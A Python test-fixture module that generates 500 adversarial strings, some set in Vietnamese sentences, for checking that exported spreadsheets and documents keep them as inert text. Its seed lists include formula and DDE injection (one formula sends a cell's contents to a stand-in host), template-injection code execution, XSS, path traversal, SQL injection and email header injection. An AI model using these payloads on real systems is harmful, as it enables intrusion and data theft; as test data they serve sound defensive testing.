"""Five hundred texts that someone could type, name a file, or send as a name, and that must come out as text and nothing else."""

from itertools import cycle, islice, product

FORMULAS = ("=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+1+2", "=HYPERLINK(\"http://x.vn\",\"bấm\")",
            "=WEBSERVICE(\"http://x.vn/\"&A1)", "=IMPORTXML(\"http://x.vn\",\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "{=A1:A9}", "=INDIRECT(\"C8\")", "='file:///C:/x.xls'#$a.A1", "=[khac.xlsx]Sheet1!A1", "＝1+1", "＋1", "＠SUM(1)",
            "\t=1+1", "\n=1+1", " =1+1", "'=1+1", "\u200b=1+1", "\ufeff=1+1", "=", "==", "-", "@", "+")
LINKS = ("http://x.vn/a?b=c&d=<e>", "https://x.vn/" + "a" * 2100, "file://\\\\may\\o\\x.xlsx", "\\\\may\\chung\\x.docx",
         "external:x.xlsx#A1", "internal:'1'!A1", "mailto:a@x.vn?bcc=b@x.vn", "javascript:alert(1)", "vbscript:x", "data:text/html,<b>",
         "ftp://x.vn", "C:\\Windows\\x.exe", "ms-excel:ofe|u|http://x.vn/a.xls")
MARKUP = ("</w:t></w:r></w:p><w:p><w:r><w:t>giả", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "A & B <c> \"d\" 'e'",
          "&amp;&lt;b&gt;&#0;&#x1;", "]]>", "<![CDATA[x]]>", "<!-- x -->", "<?xml version=\"1.0\"?>", "<!DOCTYPE a [<!ENTITY b \"c\">]>&b;",
          "</v></c><c><f>1+1</f>", "<w:instrText>INCLUDETEXT \"C:/x\"</w:instrText>", "&quot; onmouseover=&quot;x", "<a href=//x.vn>x</a>")
TAGS = ("{{ 7*7 }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{% for a in b %}", "{% endfor %}", "{# x #}", "{{", "}}",
        "{%tr for x in y %}", "{%p if true %}", "{{r x }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%s%s%n", "{0}", "{value}")
HIDDEN = ("a\u202ecod.xlsx", "\u202d\u202c\u2066x\u2069", "a\u200bb\u200cc\u200dd\ufeff", "\u2028\u2029x", "a\xa0b\u3000c", "e\u0302\u0301 Tie\u0302\u0301ng Vie\u0323\u0302t",
          "Tiê\u0301ng Viê\u0323t", "a\u0300\u0301\u0302\u0303" * 20, "\U000e0041\U000e0042x", "x\u2060y\xad", "ð Ð thay đ Đ", "Рhòng Сông nghệ",
          "１２３４５", "\ue000\uf8ff", "\U0001f1fb\U0001f1f3", "👨‍👩‍👧‍👦 gia đình", "😀" * 50, "\U0010fffd", "\ufffd", "ﷺ", "ﬁ ﬀ")
ESCAPES = ("_x0000_", "_x000D__x000A_", "_xD800_", "_xDFFF_x", "_xFFFE_", "_xFFFF_", "_x005F_x0041_", "_x0008_", "_x001B_[31m", "_x0009_tab",
           "_x00e9_", "_X0000_", "__x0000__", "_x005F_x005F_x0000_")
LONG = ("x" * 300, "ă" * 501, "từ " * 700, "y" * 32_767, "z" * 32_768, "=" + "1+" * 17_000 + "1", "dòng\n" * 400, "a" * 100_000, "💣" * 16_400)
PATHS = ("../../etc/passwd", "..\\..\\x.xlsx", "/etc/passwd", "C:\\x", "CON", "NUL.xlsx", "aux.", "com1.xlsx", "a/b/c", "x" * 260, ".", "..", "~$x.xlsx",
         "a:b", "a|b", "a?b*", "tên có  hai khoảng", ".htaccess", "x.xlsx.exe", "-rf", "--help", "%00", "a%2fb", "COM¹")
LINES = ("a\r\nBcc: x@x.vn", "a\nTo: x@x.vn\n\nthân", "a\rX-Evil: 1", "a\r\n\r\n--bien\r\nContent-Type: text/html", "a\x0bb\x0cc", "=?utf-8?B?QmNjOiB4?=",
         "\"a\" <b@x.vn>", "a@unit.gov.vn)evil@x", "a,b;c", "\"trích\", 'dẫn'", "a;b\tc", ",,,", "\"\"\"", "';DROP TABLE a;--", "$(id)", "`id`", "a\\nb")
WORDS = ("None", "nan", "NA", "N/A", "null", "TRUE", "0012", "1e400", "-0", "#N/A", "#REF!", "1.000.000", "01/02/2022", "٣٤", "½", "TCVN3: TiÕng ViÖt",
         "VNI: Tieáng Vieät", "", " ", "\u3000")
SEEDS = (*FORMULAS, *LINKS, *MARKUP, *TAGS, *HIDDEN, *ESCAPES, *LONG, *PATHS, *LINES, *WORDS)
SHORT = tuple(text for text in SEEDS if text.strip() and len(text) < 400)
FRAMES = ("Hỗ trợ xã khó khăn: {} và các hộ", "{} - kế hoạch năm 2022", "“{}”")
STRINGS = tuple(islice(dict.fromkeys([*SEEDS, *(frame.replace("{}", text, 1) for frame, text in product(FRAMES, SHORT))]), 500))
"""Each seed alone, then inside a plausible sentence."""


def spread(rows: int, start: int) -> list[str]:
    """So many of the strings, each in its turn, beginning at another one."""
    return list(islice(cycle(STRINGS), start, start + rows))
